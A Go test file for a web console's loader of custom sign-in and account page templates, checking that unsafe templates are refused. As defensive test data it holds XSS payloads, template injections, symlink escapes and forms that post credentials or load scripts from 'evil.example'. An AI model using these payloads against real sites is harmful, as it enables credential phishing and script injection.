package page_test

import (
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/fastness-dev/fastness/internal/console/page"
	"github.com/fastness-dev/fastness/internal/plan"
	"github.com/fastness-dev/fastness/internal/types"
)

// shipped is what the house's own people's pages are made of.
func shipped(t *testing.T) (fs.FS, string) {
	t.Helper()
	german, err := os.ReadFile("../account/de.txt")
	if err != nil {
		t.Fatal(err)
	}
	return os.DirFS("../account"), string(german)
}

// source is a shipped template, changed by pairs of old and new.
func source(t *testing.T, name string, change ...string) string {
	t.Helper()
	for _, dir := range []string{"template/", "../account/template/"} {
		text, err := os.ReadFile(dir + name)
		if err != nil {
			continue
		}
		for i := 0; i < len(change); i += 2 {
			if !strings.Contains(string(text), change[i]) {
				t.Fatalf("%s does not hold %q", name, change[i])
			}
		}
		return strings.NewReplacer(change...).Replace(string(text))
	}
	t.Fatalf("no %s", name)
	return ""
}

// load fills a folder and reads it.
func load(t *testing.T, files map[string]string) (*page.Own, error) {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	pages, german := shipped(t)
	return page.LoadOwn(dir, pages, german, "logo.svg")
}

// signIn is what the page of sign-in is given.
type signIn struct {
	To        string
	SignUp    bool
	Providers []struct{ Start, Label string }
	Passkey   struct{ Action, Ceremony, Options, Body, To, Look, Label string }
}

func shown(t *testing.T, own *page.Own, language string) string {
	t.Helper()
	pages, german := shipped(t)
	k, err := page.New(page.Config{Name: "Clinic", Clock: types.SystemClock{}, Templates: pages, German: german, Own: own})
	if err != nil {
		t.Fatal(err)
	}
	a, err := k.Render(&plan.Request{Header: http.Header{"Accept-Language": {language}}}, 200, "sign-in", page.View{Title: "Sign in", Data: signIn{To: `/"><b>`}})
	if err != nil {
		t.Fatal(err)
	}
	return string(a.Body)
}

// TestEveryShippedPageIsAccepted: a team that begins with a copy of what is shipped has pages that pass.
func TestEveryShippedPageIsAccepted(t *testing.T) {
	files := map[string]string{"logo.svg": "<svg/>", ".swp": "{{", "shell.html": source(t, "shell.html"), "page-problem.html": source(t, "page-problem.html")}
	names, err := filepath.Glob("../account/template/page-*.html")
	if err != nil || len(names) < 20 {
		t.Fatal(names, err)
	}
	for _, path := range names {
		name := filepath.Base(path)
		files[name] = strings.ReplaceAll(source(t, name), "\n", "\r\n")
	}
	_, files["de.txt"] = shipped(t)
	if _, err := load(t, files); err != nil {
		t.Fatal(err)
	}
	if own, err := page.LoadOwn(filepath.Join(t.TempDir(), "none"), fstest.MapFS{}, "", ""); err != nil || own == nil {
		t.Error(own, err)
	}
}

// TestOwnPages: a team replaces a page, the shell and single texts in each language; everything else stays as shipped, and values are
// escaped in its templates as in ours.
func TestOwnPages(t *testing.T) {
	own, err := load(t, map[string]string{
		"page-sign-in.html": source(t, "page-sign-in.html", `<div class="head">`, `<div class="head ours"><p>{{t "Welcome at our house."}} {{if eq .Lang "de"}}eins{{else}}one{{end}} {{icon "lock"}}</p>`,
			`"E-mail address"`, `"Your clinic address"`, `<p class="or">`, `<p class="or theirs" title="{{$.Service}}">`),
		"shell.html": source(t, "shell.html", `<footer class="foot">`, `<footer class="foot"><p>Riverside</p>`),
		"en.txt":     "# ours\n\nSign in\n\tCome in\n",
		"de.txt":     "Welcome at our house.\n\tWillkommen bei uns.\n\nYour clinic address\n\tIhre Klinikadresse\n\nPassword\n\tKennwort\n",
	})
	if err != nil {
		t.Fatal(err)
	}
	for language, want := range map[string][]string{
		"en": {"Come in", "Welcome at our house. one", "Your clinic address", ">Password<", "Password forgotten?", "<p>Riverside</p>", `title="Clinic"`, `<svg class="icon"`},
		"de": {"Anmelden", "Willkommen bei uns. eins", "Ihre Klinikadresse", ">Kennwort<", "<p>Riverside</p>"},
	} {
		text := shown(t, own, language)
		for _, w := range append(want, `value="/&#34;&gt;&lt;b&gt;"`, `name="password"`) {
			if !strings.Contains(text, w) {
				t.Errorf("%s: no %s in %s", language, w, text)
			}
		}
	}
	if text := shown(t, nil, "en"); strings.Contains(text, "Riverside") || !strings.Contains(text, "E-mail address") {
		t.Errorf("the shipped page: %s", text)
	}
}

// refused demands that a file is refused, at its place and with words.
func refused(t *testing.T, name, text, want string) {
	t.Helper()
	if _, err := load(t, map[string]string{name: text}); err == nil || !strings.HasPrefix(err.Error(), "pages/"+name) || !strings.Contains(err.Error(), want) {
		t.Errorf("%s with %.60q: %v; want %s", name, text, err, want)
	}
}

// TestUnknownPagesAreRefused: a misspelt name would otherwise be a page that nobody ever sees.
func TestUnknownPagesAreRefused(t *testing.T) {
	for _, name := range []string{"sign-in.html", "page-signin.html", "page-.html", "page-sign-in.htm", "parts.html", "README.md", "fr.txt", "de", "de.html", "Shell.html", "other.svg"} {
		refused(t, name, "x", "no page of that name is shipped")
	}
	refused(t, "page-sign-in.html", strings.Repeat("x", 70<<10), "64 KiB")
	refused(t, "de.txt", strings.Repeat("#\n", 70<<10), "64 KiB")
}

// TestPagesStayInTheirFolder: a link out of the folder is not followed, so that a page cannot be made of the host's files.
func TestPagesStayInTheirFolder(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "outside")
	if err := os.WriteFile(outside, []byte(source(t, "page-sign-in.html")), 0o600); err != nil {
		t.Fatal(err)
	}
	pages, german := shipped(t)
	for _, target := range []string{outside, "/dev/zero", "."} {
		dir := t.TempDir()
		if err := os.Symlink(target, filepath.Join(dir, "page-sign-in.html")); err != nil {
			t.Fatal(err)
		}
		if _, err := page.LoadOwn(dir, pages, german, ""); err == nil || !strings.Contains(err.Error(), "pages/page-sign-in.html") {
			t.Errorf("a link to %s was followed: %v", target, err)
		}
	}
}

// TestPagesSayOnlyWhatTheyMay: a template names nothing and calls nothing that the shipped one does not, at such a place.
func TestPagesSayOnlyWhatTheyMay(t *testing.T) {
	for _, bad := range []string{"{{.}}", "{{$}}", "{{$s}}", "{{.Data}}", "{{.Data.Passkey}}", "{{.Data.Nothing}}", "{{.Values}}", "{{.Heading.X}}", "{{printf \"%#v\" .}}", "{{.Heading | js}}", "{{html .Heading}}",
		"{{print .}}", "{{len .Data.Providers}}", "{{range .Errors}}x{{end}}", "{{with .Data}}{{.}}{{end}}", "{{range .Data.Providers}}{{.}}{{end}}", "{{range .Data.Providers}}{{.Heading}}{{end}}", "{{.Start}}",
		"{{template \"shell.html\" .}}", "{{template \"passkey-form\" .}}", "{{template \"input\" .}}", "{{$x := .Data}}", "{{if .Values}}x{{end}}", "{{if .Data.To}}{{.Data}}{{end}}", "{{if .Data.To}}x{{else}}{{.Data}}{{end}}",
		"{{call .Data.To}}", "{{range .Data.Providers}}{{break}}{{end}}", "{{\"<script>\"}}", "{{1}}", "{{t .Data.To}}", "{{t \"Sign in\" .Data.To}}", "{{t \"Continue with %s\"}}", "{{t \"%s\" .Data.To}}",
		"{{icon \"nothing\"}}", "{{icon .Data.To}}", "{{ago . .Data.To}}", "{{template \"input\" field $s \"x\" \"Password\" \"hint\" .Data.To}}", "{{template \"input\" field .Data \"x\" \"Password\"}}"} {
		refused(t, "page-sign-in.html", source(t, "page-sign-in.html", "\n<section", "\n"+bad+"\n<section"), "page-sign-in.html:3: ")
	}
	for bad, want := range map[string]string{"{{end}}{{define \"input\"}}x": "one {{define", "{{end}}{{block \"x\" .}}y": "one {{define", "{{nothing}}": ":7: ", "{{if}}": ":7: ", "{{.Heading": ":7", "<a href={{.Service}": ":7"} {
		refused(t, "page-problem.html", source(t, "page-problem.html", "</section>", bad+"</section>"), want)
	}
	refused(t, "page-problem.html", "", "write it so")
	refused(t, "page-check-mail.html", "{{define \"content\"}}\n{{end}}", "write it so")
	refused(t, "shell.html", "\n", "write it so")
	refused(t, "page-problem.html", "<p>x</p>", "one {{define")
	refused(t, "page-problem.html", source(t, "page-problem.html")+"x", "one {{define")
	refused(t, "shell.html", source(t, "shell.html", "<main", `{{define "content"}}x{{end}}<main`), "one {{define")
	refused(t, "page-problem.html", source(t, "page-problem.html", "</section>", `<a href="{{if .Heading}}{{end}}`+`</section>`), "page-problem.html")
	refused(t, "page-problem.html", source(t, "page-problem.html", "</section>", `<a title="{{.Service}}`), "non-text context")
}

// TestPagesKeepTheirForms: what the server needs of a form is in a team's too, it goes where the shipped one goes and by the same
// method, and what a page is about is on it.
func TestPagesKeepTheirForms(t *testing.T) {
	const email, password = `{{template "input" field $s "email" "E-mail address" "kind" "email" "complete" "username" "required" "max" "254" "focus"}}`,
		`{{template "input" field $s "password" "Password" "kind" "password" "complete" "current-password" "required"}}`
	for name, changes := range map[string][][2]string{
		"page-sign-in.html": {{email, ""}, {password, ""}, {password, "<!-- " + password + " -->"}, {password, "{{/* */}}"}, {`"kind" "password"`, ""}, {`field $s "password"`, `field $s "pass"`}, {email, email + email}, {email, email + email[:len(email)-3] + "}}<input name=\"x\">"},
			{`{{if .Data.To}}<input type="hidden" name="return" value="{{.Data.To}}">{{end}}`, ""}, {`method="post" `, ""}, {`method="post"`, `method="get"`}, {`action="/account/sign-in"`, ""},
			{`action="/account/sign-in"`, `action="https://evil.example/"`}, {`action="/account/sign-in"`, `action="/account/sign-up"`}, {"</form>", ""}, {`{{template "passkey-form" .Data.Passkey}}`, ""},
			{"<p class=\"or\">", `<form method="post" action="https://evil.example/">` + email + password + `</form><p class="or">`}, {`<a class="button" href="{{.Start}}">`, "<a>"}},
		"page-step-up.html":     {{`<input type="hidden" name="factor" value="totp">`, `<input type="hidden" name="factor" value="password">`}, {`action="/auth/oidc/{{.Name}}/step-up"`, `action="/account/step-up"`}},
		"page-token-new.html":   {{`name="scope[]" value="{{$v}}"`, `name="scope[]"`}, {`name="days"`, ""}},
		"page-passkey-add.html": {{` data-passkey="create"`, ""}, {`<input type="hidden" name="attempt">`, ""}},
		"page-profile.html":     {{`{{template "declared-fields" on $s .Data.Fields}}`, ""}},
		"page-codes.html":       {{`{{range .Data.Codes}}<li>{{.}}</li>{{end}}`, ""}},
		"page-token.html":       {{`{{.Data.Secret}}`, ""}},
		"shell.html": {{`{{template "content" .}}`, ""}, {`action="/account/sign-out"`, ""}, {`name="language" value="{{.}}"`, ""}, {`<script src="{{.Script}}" defer></script>`, ""},
			{`<script src="{{.Script}}" defer></script>`, `<script src="https://evil.example/x.js"></script>`}, {`{{t .Notice}}`, ""}, {`<a href="#{{.Field}}">{{with $.Called .Field}}{{.}}: {{end}}{{.Message}}</a>{{else}}{{.Message}}`, "{{else}}"}},
	} {
		for _, c := range changes {
			refused(t, name, source(t, name, c[0], c[1]), name+":")
		}
	}
	refused(t, "page-sign-in.html", source(t, "page-sign-in.html", password, ""), `page-sign-in.html:5: the server needs <form action="/account/sign-in" method="post"> with `)
}

// TestPagesHoldNothingInline: what the policy of content would silence, or what leads elsewhere, is said before it does nothing.
func TestPagesHoldNothingInline(t *testing.T) {
	for _, bad := range []string{"<script>alert(1)</script>", "<SCRIPT src=x>", "<script\nsrc=x>", "<style>p{}</style>", `<p style="color:red">`, "<p\nstyle = 'x'>", `<p class="a"style="x">`, `<img src="/x" onerror="y">`, `<svg/onload=y>`,
		`<p ONCLICK = y>`, `<a href="javascript:x">`, `<iframe src="/">`, `<object data="/">`, `<embed src="/">`, `<base href="/x">`, `<meta http-equiv="refresh" content="0">`, `<button formaction="/x">`, `<button formmethod="get">`} {
		refused(t, "page-problem.html", source(t, "page-problem.html", "</section>", bad+"</section>"), "page-problem.html:7: ")
	}
	refused(t, "shell.html", source(t, "shell.html", "</main>", "<script>alert(1)</script></main>"), "Content-Security-Policy")
}

// TestOwnTextsFit: a text replaces one that is said, takes what it takes, and nothing stays English in German.
func TestOwnTextsFit(t *testing.T) {
	for text, want := range map[string]string{
		"Sign inn\n\tx\n": ":1: no page says", "#\n\nSign in\nx\n": ":4: after an English text", "Sign in\n": ":2: after", "Sign in": ":1: \"Sign in\" has nothing below it", "\tx\n": ":1: after", "Sign in\n\t \n": ":2: after", "Sign in\n\n\tx\n": ":2: after",
		"Sign in\n\tx\nSign in\n\ty\n": ":3: \"Sign in\" stands twice", "Sign in\n\t%s\n": ":1: \"Sign in\" takes", "Continue with %s\n\tx\n": "takes", "Continue with %s\n\t%d\n": "takes", "%d left\n\t%d % da\n": "takes",
		"Continue with %s\n\t%s %s\n": "takes", "Continue with %s\n\t%v\n": "takes", "Continue with %s\n\t%[1]s\n": "takes", "%s on %s\n\t%s, 5%\n": "takes",
	} {
		refused(t, "de.txt", text, want)
		refused(t, "en.txt", text, want)
	}
	if _, err := load(t, map[string]string{"en.txt": "Sign in\n\tCome in, 100 % safe\r\n\r\nContinue with %s\r\n\tGo on with %s"}); err != nil {
		t.Error(err)
	}
	refused(t, "page-problem.html", source(t, "page-problem.html", "</section>", `{{t "Call us."}}</section>`), `:7: "Call us." has no German`)
}
